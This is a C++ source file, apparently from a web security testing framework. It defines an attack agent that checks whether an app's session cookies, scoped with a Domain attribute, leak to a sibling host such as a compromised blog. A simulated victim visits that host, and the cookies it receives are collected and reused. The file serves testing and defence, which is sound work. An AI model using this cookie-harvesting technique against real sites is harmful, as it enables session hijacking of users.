// sibling-cookie: a host beside the app's, such as a blog that somebody has broken into, keeps what
// the victim's browser sends along. A cookie with Domain goes to all of them (RFC 6265bis 4.1.2.3;
// OWASP Session Management Cheat Sheet, "Domain and Path Attributes").
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

class SiblingCookie final : public Agent {
    void run(Target& target) override {
        OwnHost* sibling = sibling_host(target);
        if (sibling == nullptr || !victim_signs_in(target)) return;
        std::size_t seen = 0;
        look(target, *sibling, seen);
        // What is renewed, or comes with a new password, is set elsewhere than at the sign-in.
        for (std::string const& routine : split(target.option(option::kLater), ',')) {
            (void)target.victim()->does(routine);
            look(target, *sibling, seen);
        }
    }

    // seen: how many requests to his host he has looked at.
    static void look(Target& target, OwnHost& sibling, std::size_t& seen) {
        std::vector<std::string> paths{"/"};
        if (Endpoint const* refresh = endpoint_option(target, option::kRefresh, "refresh"))
            paths.push_back(refresh->path);
        for (std::string const& path : paths) {
            sibling.answer(path, page("<h1>News</h1>"));
            target.victim()->opens("https://" + sibling.name() + path);
            target.victim()->turns_away();
        }
        std::vector<std::string> headers;
        auto const& received = sibling.received();
        for (; seen < received.size(); ++seen)
            if (auto const cookies = received[seen].headers.get("cookie"))
                headers.push_back(*cookies);
        target.note(std::to_string(headers.size()) + " requests brought cookies to " +
                    sibling.name() + ".");
        use_cookie_headers(target, headers);
    }
};

}  // namespace

std::unique_ptr<Agent> make_sibling_cookie() { return std::make_unique<SiblingCookie>(); }

}  // namespace parapet::attack
